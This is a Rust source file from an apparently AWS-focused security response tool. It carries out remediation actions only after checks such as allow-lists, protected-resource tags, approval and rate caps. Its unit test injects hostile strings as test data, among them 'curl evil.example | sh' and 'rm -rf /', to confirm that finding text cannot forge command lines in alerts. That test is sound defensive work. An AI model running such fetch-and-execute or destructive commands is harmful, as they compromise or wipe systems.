//! Remediate: the policy lists actions; the Rust side applies the guard rails (sample findings,
//! policy errors, allow-list, protected resources, approval, exactly-once ledger, hourly cap) and
//! only then, in `enforce` mode, carries them out.

use super::ask::{Asker, Asking, Outcome};
use super::policy::{policy_input, run_policy, undetermined_after_error};
use super::settings::Settings;
use crate::action::{Action, ActionKind};
use crate::alert::ResourceKind;
use crate::alert::{Resource, tags_mark_protected};
use crate::decision::{Policies, PolicyError, RemediateDecision, shape_error};
use crate::document::{ActionRecord, ActionRequest, ActionStatus, Document, Mode, Phase, Target, TraceEntry};
use crate::incident::IncidentLink;
use crate::ports::{
    ActionLedger, ApprovalChannel, Budget, Claim, DecisionLog, Inventory, InventoryRecord, Notification, Notifier,
    Remediator,
};
use serde_json::{Value, json};
use std::collections::HashMap;
use std::sync::Arc;

/// The target kind of a notification.
const CHANNEL: &str = "Channel";

/// What a notification is to its alert's incident, as its ledger claim decided.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Answer {
    /// No incident, an action other than `notify`, or Rust's own escalation after an error.
    Alone,
    /// The incident's first notice, for an alert whose verdict does not page.
    First,
    /// A page: the first for the incident at this severity (the verdict pages).
    Page,
    /// A later alert: at most one update per window, never a page.
    FollowUp(u64),
}

/// A claim taken: what it answers and the ledger target it was taken under.
struct Claimed {
    answer: Answer,
    ledger_target: String,
    /// A person approved it: the message that asked, to replace with the outcome.
    approved: Option<crate::approval::MessageRef>,
}

/// The inventory's answer about each target, read once per phase: the protection check of every
/// action on a target and the action itself use the same answer (`Err`: it could not be read).
type Described = HashMap<Target, Result<Option<InventoryRecord>, crate::ports::ProviderError>>;

/// A requested action and its decoded form; `None`: a type soar does not know (refused).
struct Planned {
    request: ActionRequest,
    action: Option<Action>,
}

/// Decodes every requested action's parameters ([`Action::decode`]): one that does not fit its
/// type makes the whole decision malformed, in dry run as in enforce, so that what a dry run plans
/// is what enforce would carry out.
fn decode_actions(requests: Vec<ActionRequest>) -> Result<Vec<Planned>, PolicyError> {
    requests
        .into_iter()
        .enumerate()
        .map(|(i, request)| match Action::decode(&request.action, &request.params) {
            Ok(action) => Ok(Planned { request, action }),
            Err((field, problem)) => Err(shape_error(Phase::Remediate, &format!("actions[{i}].{field}"), problem)),
        })
        .collect()
}

pub struct Responder {
    pub policies: Arc<dyn Policies>,
    pub decisions: Arc<dyn DecisionLog>,
    /// Exactly-once claims, the action records and the hourly cap.
    pub ledger: Arc<dyn ActionLedger>,
    pub inventory: Arc<dyn Inventory>,
    pub remediator: Arc<dyn Remediator>,
    pub notifier: Arc<dyn Notifier>,
    /// Where people are asked to approve (Slack), beside `soar approve` and the console.
    pub approvals: Arc<dyn ApprovalChannel>,
    pub settings: Settings,
}

impl Responder {
    fn asker(&self) -> Asker<'_> {
        Asker {
            policies: self.policies.as_ref(),
            ledger: self.ledger.as_ref(),
            channel: self.approvals.as_ref(),
            settings: &self.settings,
        }
    }

    /// Runs the remediate policy and every action it asks for. `Some(reason)` when an action
    /// was interrupted ([`ActionStatus::Interrupted`]): the alert must come back (the caller
    /// does not keep this document), and what was done is in the ledger, not repeated.
    pub async fn remediate(&self, doc: &mut Document) -> Option<String> {
        let context = json!({"phase": "remediate", "mode": self.settings.mode.as_str()});
        let input = policy_input(doc, context);
        let (mut entry, decision) = run_policy::<RemediateDecision>(self.policies.as_ref(), Phase::Remediate, &input);

        // A policy error anywhere (or an alert soar could not read whole) is escalated, never
        // silenced: Rust plans one fixed notification naming the alert, the phase and the error,
        // and nothing else runs, whatever the policy asked for.
        // The first phase that failed is the one to name: later ones failed on what it left.
        let earlier = doc
            .trace
            .iter()
            .find_map(|t| t.error.as_ref().map(|e| (t.phase, e.clone())));
        let (requests, escalation) = match decision.and_then(|d| decode_actions(d.actions)) {
            Err(e) => {
                let message = e.to_string();
                entry.error = Some(message.clone());
                doc.verdict = Some(undetermined_after_error(doc, &message));
                (Vec::new(), earlier.or(Some((Phase::Remediate, message))))
            }
            Ok(planned) => (planned, earlier),
        };
        let escalating = escalation.is_some();
        let requests = match escalation {
            None => requests,
            Some((phase, error)) => {
                if !requests.is_empty() {
                    entry.notes.push(format!(
                        "{} action(s) the policy asked for not taken: an error in the {phase} phase means no automatic action, only the escalation notification",
                        requests.len()
                    ));
                }
                vec![escalation_request(
                    doc,
                    phase,
                    &error,
                    &self.settings.escalation_channel,
                )]
            }
        };

        let mut seen = Vec::new();
        let mut described = Described::new();
        let mut interrupted = None;
        for planned in requests {
            let key = (planned.request.action.clone(), planned.request.target.clone());
            if seen.contains(&key) {
                continue;
            }
            seen.push(key);
            let record = self.handle(doc, planned, &mut entry, escalating, &mut described).await;
            tracing::info!(action = %record.request.action, target = %record.request.target.id, status = record.status.as_str(), "action");
            if record.status == ActionStatus::Interrupted {
                interrupted.get_or_insert_with(|| {
                    format!(
                        "{} on {}: {}",
                        record.request.action, record.request.target.id, record.detail
                    )
                });
            } else if let Err(e) = self.record(doc, escalating, &record).await {
                // The outcome is not in the ledger: the claim stays held until its lease runs
                // out, and the retry then resumes it (repeating an action is safe, losing one is not).
                tracing::error!(error = %e, "could not record an action");
                interrupted.get_or_insert_with(|| {
                    format!("the outcome of {} could not be recorded: {e}", record.request.action)
                });
            }
            doc.actions.push(record);
        }
        if let Err(e) = self.decisions.put_decision(&doc.alert.id, &entry).await {
            tracing::warn!(error = %e, "could not record the remediate decision");
        }
        doc.trace.push(entry);
        interrupted
    }

    /// Records an outcome in its ledger; an incident's notification also in the alert's own entry
    /// (see `claim_notification`).
    async fn record(
        &self,
        doc: &Document,
        escalating: bool,
        record: &ActionRecord,
    ) -> Result<(), crate::ports::StateError> {
        self.ledger.record_action(scope(doc, escalating), record).await?;
        let own_entry = doc.incident.is_some()
            && !escalating
            && !record.request.requires_approval
            && record.request.action == ActionKind::Notify.as_str()
            && matches!(
                record.status,
                ActionStatus::Planned | ActionStatus::Executed | ActionStatus::Failed | ActionStatus::PendingApproval
            );
        if own_entry {
            let own = ActionRecord {
                ledger_target: None,
                ..record.clone()
            };
            self.ledger.record_action(&doc.alert.id, &own).await?;
        }
        Ok(())
    }

    /// One action through the guard rails. `escalation`: Rust's own notification after an error,
    /// which changes nothing, so neither the allow-list nor the hourly cap (there to stop a bad
    /// policy from acting on the fleet) may keep it from a person.
    async fn handle(
        &self,
        doc: &Document,
        planned: Planned,
        entry: &mut TraceEntry,
        escalation: bool,
        described: &mut Described,
    ) -> ActionRecord {
        let Planned { mut request, action } = planned;
        // Actions that lose evidence wait for a person in this deployment, whatever the policy said.
        if !request.requires_approval
            && action
                .as_ref()
                .is_some_and(|a| self.settings.approval_required.contains(&a.kind()))
        {
            request.requires_approval = true;
            entry.notes.push(format!(
                "{} waits for approval: this deployment requires it (SOAR_APPROVAL_REQUIRED_ACTIONS)",
                request.action
            ));
        }
        let mut ledger_target = None;
        let (status, detail) = match self
            .through(doc, &request, action, entry, escalation, described, &mut ledger_target)
            .await
        {
            Ok(done) | Err(done) => done,
        };
        ActionRecord {
            ledger_target: ledger_target.filter(|t| *t != request.target.id),
            request,
            mode: self.settings.mode,
            status,
            detail,
        }
    }

    /// The guard rails in order, then the action; `Err` is where a guard rail stopped it.
    /// `ledger_target`: set to the ledger target claimed, once a claim is taken.
    #[allow(clippy::too_many_arguments)]
    async fn through(
        &self,
        doc: &Document,
        request: &ActionRequest,
        action: Option<Action>,
        entry: &mut TraceEntry,
        escalation: bool,
        described: &mut Described,
        ledger_target: &mut Option<String>,
    ) -> Result<Outcome, Outcome> {
        let action = self
            .admissible(doc, request, action, entry, escalation, described)
            .await?;
        let action = super::write_back::summarised(doc, action, entry);
        let scope = scope(doc, escalation);
        // A notification that waits for approval is claimed as any other action.
        let incident_notice = action.kind().is_notify() && !escalation && !request.requires_approval;
        let plan = json!(action.api_calls(&doc.alert, &request.target));
        let claimed = match (&doc.incident, incident_notice) {
            (Some(incident), true) => self.claim_notification(doc, incident, request, entry).await?,
            _ => {
                self.claim(doc, (scope, &request.target.id), request, &plan, entry)
                    .await?
            }
        };
        *ledger_target = Some(claimed.ledger_target.clone());
        let claim = (scope, claimed.ledger_target.as_str());
        if self.settings.mode == Mode::DryRun {
            return Ok((
                ActionStatus::Planned,
                json!({"dry_run": "not carried out", "api_calls": plan}),
            ));
        }
        // The caps keep a bad policy from acting on the fleet (or hiding every finding); a
        // write-back has a budget of its own, so that a flood of false positives written back
        // never uses up the one an incident's containment needs.
        if !escalation {
            self.take_budget(claim, request, action.kind().is_write_back(), entry)
                .await?;
        }
        let record = described
            .get(&request.target)
            .and_then(|r| r.as_ref().ok())
            .and_then(Option::as_ref);
        let outcome = self.carry_out(doc, request, &action, record, claimed.answer).await;
        if let Some(message) = &claimed.approved
            && outcome.0 != ActionStatus::Interrupted
        {
            self.asker().tell_outcome(message, claim, request, &outcome).await;
        }
        if outcome.0 == ActionStatus::Interrupted {
            self.give_back(claim, request).await;
            if claimed.answer != Answer::Alone {
                self.give_back((&doc.alert.id, &request.target.id), request).await;
            }
        }
        Ok(outcome)
    }

    /// Gives this attempt's claim (`scope`, ledger target) back, so that the retry claims it afresh.
    async fn give_back(&self, (scope, target): (&str, &str), request: &ActionRequest) {
        let released = self
            .ledger
            .release_action(scope, self.settings.mode, &request.action, target)
            .await;
        if let Err(e) = released {
            // The claim then stays until its lease runs out, and the retry resumes it.
            tracing::warn!(error = %e, "could not give back a claim");
        }
    }

    /// The checks that need no ledger: sample, archived, unknown type, allow-list, target, protection.
    async fn admissible(
        &self,
        doc: &Document,
        request: &ActionRequest,
        action: Option<Action>,
        entry: &mut TraceEntry,
        escalation: bool,
        described: &mut Described,
    ) -> Result<Action, Outcome> {
        if doc.alert.sample {
            return Err((ActionStatus::SkippedSample, json!("sample finding: never acted on")));
        }
        let notify = action.as_ref().is_some_and(|a| a.kind().is_notify());
        // The ingest policy suppresses archived findings; Rust holds the line if it does not.
        if doc.alert.archived && !notify {
            return Err((
                ActionStatus::SkippedArchived,
                json!("archived finding: an analyst closed it in its source, nothing is acted on"),
            ));
        }
        let Some(action) = action else {
            entry
                .notes
                .push(format!("unknown action type `{}` refused", request.action));
            return Err((
                ActionStatus::SkippedNotAllowed,
                json!(format!("unknown action type; known: {}", ActionKind::names(", "))),
            ));
        };
        if let Some(allowed) = &self.settings.allowed_actions
            && !escalation
            && !allowed.contains(&action.kind())
        {
            return Err((
                ActionStatus::SkippedNotAllowed,
                json!("not in this deployment's allowed actions (SOAR_ALLOWED_ACTIONS)"),
            ));
        }
        if notify {
            return Ok(action);
        }
        if let Err(why) =
            check_target(doc, &request.target).and_then(|()| match action.refuses_target(&request.target) {
                Some(why) => Err(why),
                None => Ok(()),
            })
        {
            entry
                .notes
                .push(format!("{} on `{}` refused: {why}", request.action, request.target.id));
            return Err((ActionStatus::SkippedInvalidTarget, json!(why)));
        }
        if let Some((status, why)) = super::write_back::refusal(&doc.alert, &action) {
            entry
                .notes
                .push(format!("{} on {} not taken: {why}", request.action, request.target.id));
            return Err((status, json!(why)));
        }
        if let Err((status, why)) = self.protection(doc, &request.target, described).await {
            entry.notes.push(format!(
                "{} on {} not taken: {}",
                request.action,
                request.target.id,
                why.as_str().unwrap_or_default()
            ));
            return Err((status, why));
        }
        Ok(action)
    }

    /// A notification of an incident. First this alert's own entry (alert scope, `notify`,
    /// channel), so that an alert coming back after an interruption never notifies about itself
    /// twice; then, in the incident's ledger, a page once per severity paged (when this alert's
    /// verdict pages: the first page, then one more for each severity not paged yet), else the
    /// incident's first notice, else this window's follow-up. All taken: a duplicate.
    async fn claim_notification(
        &self,
        doc: &Document,
        incident: &IncidentLink,
        request: &ActionRequest,
        entry: &mut TraceEntry,
    ) -> Result<Claimed, Outcome> {
        let channel = &request.target.id;
        self.claim(doc, (&doc.alert.id, channel), request, &Value::Null, entry)
            .await?;
        let window = incident.follow_up_window(chrono::Utc::now());
        let first = match doc.verdict.as_ref().filter(|v| v.page) {
            Some(v) => (Answer::Page, format!("{channel}#page#{}", v.severity)),
            None => (Answer::First, channel.clone()),
        };
        let follow_up = (Answer::FollowUp(window), format!("{channel}#follow-up#{window}"));
        let mut stopped = (
            ActionStatus::Duplicate,
            json!(format!(
                "incident {}: its notification and this window's follow-up were sent already",
                incident.id
            )),
        );
        for (answer, target) in [first, follow_up] {
            match self
                .claim(doc, (&incident.id, &target), request, &Value::Null, entry)
                .await
            {
                Ok(claimed) => {
                    return Ok(Claimed {
                        answer,
                        ledger_target: claimed.ledger_target,
                        approved: None,
                    });
                }
                Err((ActionStatus::Duplicate, _)) => continue,
                Err(other) => {
                    stopped = other;
                    break;
                }
            }
        }
        // Nothing sent: this alert's own entry goes back, so that a retry asks again.
        if stopped.0 != ActionStatus::PendingApproval {
            self.give_back((&doc.alert.id, channel), request).await;
        }
        Err(stopped)
    }

    /// The exactly-once ledger entry (`scope`, action, `target`): a new claim goes on (or waits
    /// for approval, asked with its `plan`), a taken one stops. Returns the claim taken.
    async fn claim(
        &self,
        doc: &Document,
        (scope, target): (&str, &str),
        request: &ActionRequest,
        plan: &Value,
        entry: &mut TraceEntry,
    ) -> Result<Claimed, Outcome> {
        let claim = self
            .ledger
            .claim_action(scope, self.settings.mode, &request.action, target)
            .await;
        let whose = if doc.incident.as_ref().is_some_and(|i| i.id == scope) {
            "this incident"
        } else {
            "this alert"
        };
        let asking = Asking {
            doc,
            scope,
            target,
            request,
            plan,
        };
        let claimed = |approved| Claimed {
            answer: Answer::Alone,
            ledger_target: target.to_string(),
            approved,
        };
        match claim {
            // A resumed claim was never approved (an approved one comes back as `Approved`).
            Ok(Claim::New | Claim::Resumed) if request.requires_approval => Err(self.asker().ask(&asking, entry).await),
            Ok(Claim::New) => Ok(claimed(None)),
            Ok(Claim::Resumed) => {
                entry.notes.push(format!(
                    "{} on {target} resumed: an earlier attempt claimed it and ended before recording the outcome",
                    request.action
                ));
                Ok(claimed(None))
            }
            Ok(Claim::Approved) => self.asker().approved(&asking, entry).await.map(claimed),
            Ok(Claim::Taken) if request.requires_approval => Err(self.asker().asked_before(&asking, entry).await),
            Ok(Claim::Taken) => Err((
                ActionStatus::Duplicate,
                json!(format!(
                    "already claimed for {whose}: done, planned or waiting for approval (action ledger)"
                )),
            )),
            Ok(Claim::Busy) => Err((
                ActionStatus::Interrupted,
                json!("another attempt holds the claim and may still be acting: retried later"),
            )),
            // Not knowing whether it was done, neither act nor give up: the alert comes back.
            Err(e) => Err((
                ActionStatus::Interrupted,
                json!(format!("ledger unavailable, not acting now: {e}")),
            )),
        }
    }

    /// The deployment-wide hourly cap (of write-backs when `write_back`); a refused action gives
    /// its claim back for a later retry.
    async fn take_budget(
        &self,
        claim: (&str, &str),
        request: &ActionRequest,
        write_back: bool,
        entry: &mut TraceEntry,
    ) -> Result<(), Outcome> {
        let (budget, max, variable) = if write_back {
            (
                Budget::WriteBacks,
                self.settings.max_write_backs_per_hour,
                "SOAR_MAX_WRITE_BACKS_PER_HOUR",
            )
        } else {
            (
                Budget::Actions,
                self.settings.max_actions_per_hour,
                "SOAR_MAX_ACTIONS_PER_HOUR",
            )
        };
        let taken = self.ledger.take_action_budget(budget, max).await;
        if let Ok(true) = taken {
            return Ok(());
        }
        self.give_back(claim, request).await;
        if let Err(e) = taken {
            return Err((
                ActionStatus::Interrupted,
                json!(format!(
                    "the hourly action count could not be read, not acting now: {e}"
                )),
            ));
        }
        entry
            .notes
            .push(format!("hourly {} cap of {max} reached", budget.as_str()));
        Err((
            ActionStatus::SkippedRateLimited,
            json!(format!(
                "deployment-wide hourly {} cap reached ({variable})",
                budget.as_str()
            )),
        ))
    }

    /// The one place an action meets an adapter: notifications to the notifier, the rest to the
    /// remediator (whose one `match` over [`Action`] carries each type out).
    async fn carry_out(
        &self,
        doc: &Document,
        request: &ActionRequest,
        action: &Action,
        described: Option<&InventoryRecord>,
        answer: Answer,
    ) -> Outcome {
        let result = match action {
            Action::Notify {
                subject,
                message,
                commands,
                ..
            } => {
                let text = NotifyText {
                    subject: subject.as_deref(),
                    message: message.as_deref(),
                    commands: commands.as_deref().unwrap_or_default(),
                };
                let notification = notification(doc, &request.target, &text, answer);
                self.notifier.notify(&notification).await
            }
            _ => {
                self.remediator
                    .execute(&doc.alert, doc.ledger_scope(), &request.target, action, described)
                    .await
            }
        };
        match result {
            Ok(detail) => (ActionStatus::Executed, detail),
            Err(e) if e.transient => (ActionStatus::Interrupted, json!(e.to_string())),
            Err(e) => (ActionStatus::Failed, json!(e.to_string())),
        }
    }

    /// `Err` with [`ActionStatus::SkippedProtected`] when the target must not be touched: tagged
    /// `soar:protected=true` in the alert (finding or inventory at enrich time) or, read live
    /// now, in the inventory; a target whose protection cannot be checked is treated as
    /// protected. [`ActionStatus::Interrupted`] when the read failed in a way that may pass
    /// (throttled, a server error, no answer): the alert comes back and asks again.
    async fn protection(&self, doc: &Document, target: &Target, described: &mut Described) -> Result<(), Outcome> {
        // A finding is as protected as the resource it is about: a protected resource's findings
        // are left to people, in the source as in the account.
        let about;
        let target = if target.kind == ResourceKind::Finding {
            let resource = &doc.alert.resource;
            about = Target {
                kind: resource.kind.clone(),
                id: resource.id.clone(),
            };
            &about
        } else {
            target
        };
        // Any copy of the target among the alert's resources marked protected protects it.
        if doc
            .alert
            .resources_named(&target.kind, &target.id)
            .any(Resource::is_protected)
        {
            return Err((
                ActionStatus::SkippedProtected,
                json!("resource is tagged soar:protected=true"),
            ));
        }
        // Described where the remediator acts: the account and region of the alert's resource
        // (check_target refuses a related resource placed anywhere else).
        let resource = &doc.alert.resource;
        let probe = Resource {
            kind: target.kind.clone(),
            id: target.id.clone(),
            account: resource.account.clone(),
            region: resource.region.clone(),
            ..Resource::unknown()
        };
        if !described.contains_key(target) {
            let answer = self.inventory.describe(&probe).await;
            described.insert(target.clone(), answer);
        }
        let protected = |why: String| (ActionStatus::SkippedProtected, json!(why));
        match &described[target] {
            Ok(Some(record)) if tags_mark_protected(&record.tags) => {
                Err(protected("resource is tagged soar:protected=true (read live)".into()))
            }
            Ok(_) => Ok(()),
            // Not known now, but may be soon: the alert comes back and asks again (a skip would
            // be for good, and an incident's only alert would never be contained).
            Err(e) if e.transient => Err((
                ActionStatus::Interrupted,
                json!(format!("protection could not be read now, not acting yet: {e}")),
            )),
            Err(e) => Err(protected(format!("protection could not be checked, not acting: {e}"))),
        }
    }
}

/// Whose ledger an action is claimed in: the incident's ([`Document::ledger_scope`]), but Rust's
/// own escalation after an error, which is about this alert alone.
fn scope(doc: &Document, escalation: bool) -> &str {
    if escalation { &doc.alert.id } else { doc.ledger_scope() }
}

/// A target must be well formed for its kind and named by the alert itself (its resource or one
/// of its related resources, or an access key among the alert's own indicators, not one a
/// provider linked during enrichment): a policy cannot aim an action at anything else, and an id
/// with stray spaces, two ids in one, or garbage never reaches an AWS API, whose "not found"
/// for it would read as "not protected".
pub(crate) fn check_target(doc: &Document, target: &Target) -> Result<(), String> {
    well_formed_id(&target.kind, &target.id)?;
    if target.kind == ResourceKind::Finding {
        // Only the alert's own finding, as its parser read it from the finding itself.
        return match &doc.alert.finding {
            Some(own) if own.id == target.id => Ok(()),
            Some(own) => Err(format!(
                "`{}` is not this alert's finding (`{}`): a write-back goes to the alert's own finding only",
                target.id, own.id
            )),
            None => Err(format!(
                "`{}`: this alert has no finding in Security Hub or GuardDuty to write back to (an alert from another tool, or a finding whose ARN contradicts its account, region or id)",
                target.id
            )),
        };
    }
    let resource = &doc.alert.resource;
    // An id given as an ARN names its own account and region: they must be the resource's.
    if let Some((region, account)) = arn_place(&target.id) {
        let differs = |a: &str, b: &str| !a.is_empty() && !b.is_empty() && a != b;
        if differs(account, &resource.account) || differs(region, &resource.region) {
            return Err(format!(
                "`{}` is in account {account} region {region}, not where this alert's resource is ({} {}): not acted on",
                target.id, resource.account, resource.region
            ));
        }
    }
    if target.kind == ResourceKind::EcsTask && crate::action::ecs_cluster(&doc.alert, &target.id).is_none() {
        return Err(format!(
            "ECS task `{}`: the finding names no cluster for it, or a cluster its ARN contradicts",
            target.id
        ));
    }
    // soar acts, and checks protection, in the account and region of the alert's resource: a
    // related resource the finding places elsewhere is not acted on (its protection would be
    // read in one place and the action taken in another).
    let elsewhere = |r: &Resource| {
        (!r.account.is_empty() && !resource.account.is_empty() && r.account != resource.account)
            || (!r.region.is_empty() && !resource.region.is_empty() && r.region != resource.region)
    };
    if let Some(other) = doc
        .alert
        .resources_named(&target.kind, &target.id)
        .find(|r| elsewhere(r))
    {
        return Err(format!(
            "{} `{}` is in account {} region {}, not where this alert's resource is ({} {}): not acted on",
            target.kind, target.id, other.account, other.region, resource.account, resource.region
        ));
    }
    let named = doc.alert.resources_named(&target.kind, &target.id).next().is_some()
        || (target.kind == ResourceKind::AccessKey
            && doc
                .alert
                .indicators
                .iter()
                .any(|i| i.kind == crate::alert::IndicatorKind::AccessKey && i.depth == 0 && i.value == target.id));
    if named {
        Ok(())
    } else {
        Err(format!(
            "{} `{}` is not a resource this alert names (its resource is {} `{}`)",
            target.kind, target.id, resource.kind, resource.id
        ))
    }
}

/// The region and account of an ARN (`arn:partition:service:region:account:resource`), either
/// empty where the service has none (S3 buckets, IAM).
fn arn_place(id: &str) -> Option<(&str, &str)> {
    let mut parts = id.strip_prefix("arn:")?.splitn(5, ':');
    let (_partition, _service) = (parts.next()?, parts.next()?);
    let (region, account) = (parts.next()?, parts.next()?);
    parts.next()?;
    Some((region, account))
}

/// The id syntax of the kinds soar acts on (EC2 `i-` + 8 or 17 hex digits; IAM access key ids
/// are 16-128 upper-case letters and digits starting with `A`, per the IAM API reference);
/// other kinds need one non-empty token without white space, commas or control characters.
pub(crate) fn well_formed_id(kind: &ResourceKind, id: &str) -> Result<(), String> {
    let ok = match kind {
        ResourceKind::Instance => id.strip_prefix("i-").is_some_and(|hex| {
            matches!(hex.len(), 8 | 17) && hex.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
        }),
        ResourceKind::AccessKey => {
            (16..=128).contains(&id.len())
                && id.starts_with('A')
                && id.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
        }
        _ => !id.is_empty() && id.len() <= 1024 && !id.chars().any(|c| c.is_whitespace() || c.is_control() || c == ','),
    };
    if ok {
        Ok(())
    } else {
        Err(format!("`{id}` is not a well-formed {kind} id"))
    }
}

/// The notification Rust sends on its own authority after an error: fixed text, no policy input.
fn escalation_request(doc: &Document, phase: Phase, error: &str, channel: &str) -> Planned {
    let alert = &doc.alert;
    let subject = format!("[soar] needs a person: {} phase failed for {}", phase, alert.id);
    let message = format!(
        "soar could not decide alert {} ({}, severity {}) because the {} phase failed: {}. \
         Nothing was done automatically; please review it by hand.",
        alert.id, alert.kind, alert.severity, phase, error
    );
    let request = ActionRequest {
        action: ActionKind::Notify.as_str().to_string(),
        target: Target {
            kind: ResourceKind::Other(CHANNEL.into()),
            id: channel.to_string(),
        },
        params: json!({"subject": subject, "message": message, "escalation": true}),
        requires_approval: false,
        reason: format!("escalation: the {phase} phase failed"),
    };
    let action = Action::Notify {
        subject: Some(subject),
        message: Some(message),
        commands: None,
        page: None,
        escalation: true,
    };
    Planned {
        request,
        action: Some(action),
    }
}

/// The line naming the incident, and for a later page or a follow-up its own subject and
/// whether it pages (a page does, a follow-up never).
fn incident_header(
    incident: &IncidentLink,
    alert: &crate::alert::Alert,
    answer: Answer,
) -> (String, Option<String>, Option<bool>) {
    let about = one_line(&format!(
        "Incident {} ({} alert(s), {} {}): {}",
        incident.id,
        incident.alerts,
        incident.verdict.as_str(),
        incident.severity,
        incident.key
    ));
    match answer {
        // A page after earlier alerts of the incident: it reached a severity not paged before.
        Answer::Page if !incident.opened => (
            about,
            Some(format!(
                "[soar] incident {} now {}: {}",
                incident.id, incident.severity, alert.title
            )),
            Some(true),
        ),
        Answer::FollowUp(_) => (
            about,
            Some(format!(
                "[soar] incident {} update: {} alert(s), latest {}",
                incident.id, incident.alerts, alert.kind
            )),
            Some(false),
        ),
        Answer::Page | Answer::First | Answer::Alone => (about, None, None),
    }
}

/// A message a person can act on: what happened, what soar did or waits to do, how to undo it.
/// What a policy's `notify` adds to the message Rust writes.
struct NotifyText<'a> {
    subject: Option<&'a str>,
    message: Option<&'a str>,
    commands: &'a [String],
}

/// Text from a finding or a policy on one line: control characters (line breaks included) become
/// spaces, so that nothing in a finding can start a line of its own in the message (a line a
/// responder could read as one of soar's commands).
fn one_line(text: &str) -> String {
    text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
}

fn notification(doc: &Document, channel: &Target, text: &NotifyText<'_>, answer: Answer) -> Notification {
    let (subject, message) = (text.subject, text.message);
    let verdict = doc.verdict.clone();
    let label = verdict.as_ref().map(|v| v.verdict.as_str()).unwrap_or("undetermined");
    let severity = verdict.as_ref().map(|v| v.severity.as_str()).unwrap_or("unknown");
    let alert = &doc.alert;
    let mut lines = Vec::new();
    let mut subject = subject.map(String::from);
    let mut page = verdict.as_ref().is_some_and(|v| v.page);
    if let Some(incident) = &doc.incident {
        let (about, retitled, pages) = incident_header(incident, alert, answer);
        lines.push(about);
        subject = retitled.or(subject);
        page = pages.unwrap_or(page);
    }
    lines.extend([
        one_line(&format!(
            "Alert {} ({}, severity {})",
            alert.id, alert.kind, alert.severity
        )),
        one_line(&format!(
            "Account {} region {}: {} {}",
            alert.account, alert.region, alert.resource.kind, alert.resource.id
        )),
        format!("Verdict: {label} ({severity})"),
    ]);
    if let Some(v) = &verdict {
        lines.extend(v.reasons.iter().map(|r| format!("  - {}", one_line(r))));
    }
    if let Some(message) = message.filter(|m| !m.is_empty()) {
        lines.push(one_line(message));
    }
    if !text.commands.is_empty() {
        lines.push("Commands (what no AWS API contains; check each before running it):".into());
        for command in text.commands {
            if command.chars().any(char::is_control) {
                lines.push("  (a command holding a control character was left out)".into());
            } else {
                lines.push(format!("  $ {command}"));
            }
        }
    }
    if !doc.actions.is_empty() {
        lines.push("Actions:".into());
    }
    for a in &doc.actions {
        let (action, target) = (&a.request.action, &a.request.target.id);
        lines.push(format!(
            "  - {action} {target}: {} ({})",
            a.status.as_str(),
            a.mode.as_str()
        ));
        if a.status == ActionStatus::PendingApproval {
            lines.push(format!(
                "    approve with: {}",
                crate::approval::approve_command(doc.ledger_scope(), action, a.ledger_target())
            ));
        }
        for rollback in a.detail["rollback"]
            .as_array()
            .into_iter()
            .flatten()
            .chain(a.detail.get("rollback").filter(|r| r.is_string()))
        {
            if let Some(command) = rollback.as_str() {
                lines.push(format!("    roll back: {command}"));
            }
        }
    }
    Notification {
        alert_id: alert.id.clone(),
        channel: channel.id.clone(),
        subject: one_line(&subject.unwrap_or_else(|| format!("[soar] {label} ({severity}): {}", alert.title))),
        message: lines.join("\n"),
        page,
        verdict,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::{Verdict, VerdictKind};
    use crate::input::{Incoming, parse_input};

    fn doc(kind: &str, reason: &str) -> Document {
        let finding = json!({"schemaVersion": "2.0", "accountId": "111122223333", "region": "eu-west-1", "id": "f1",
            "type": kind, "severity": 8, "resource": {"resourceType": "Instance",
                "instanceDetails": {"instanceId": "i-0123456789abcdef0"}},
            "service": {"serviceName": "guardduty", "additionalInfo": {}}});
        let Ok(Incoming::Normalised(alert)) = parse_input(finding.to_string().as_bytes()).remove(0).result else {
            panic!("not read")
        };
        let mut doc = Document::new(*alert);
        doc.verdict = Some(Verdict {
            verdict: VerdictKind::Incident,
            severity: "high".into(),
            reasons: vec![reason.into()],
            page: true,
            error: None,
        });
        doc
    }

    /// Nothing from a finding or a policy starts a line of its own in a message, and a command
    /// holding a line break is left out: a responder never reads an attacker's text as a command.
    #[test]
    fn finding_text_cannot_forge_a_line_of_the_message() {
        let d = doc("X\ncurl evil.example | sh\nY", "because\r\n$ rm -rf /");
        let channel = Target {
            kind: ResourceKind::Other(CHANNEL.into()),
            id: "oncall".into(),
        };
        let commands = vec!["kubectl get pods".to_string(), "ok\ncurl evil.example | sh".to_string()];
        let text = NotifyText {
            subject: Some("sub\nject"),
            message: Some("line\nbreak"),
            commands: &commands,
        };
        let n = notification(&d, &channel, &text, Answer::Alone);
        for line in n.message.lines() {
            assert!(
                !line.starts_with("curl") && !line.starts_with("$ rm"),
                "{line:?} in {}",
                n.message
            );
        }
        assert!(n.message.contains("  $ kubectl get pods"), "{}", n.message);
        assert!(n.message.contains("a command holding a control character was left out"));
        assert!(!n.message.contains("ok curl"), "{}", n.message);
        assert!(!n.subject.contains('\n'));
    }
}
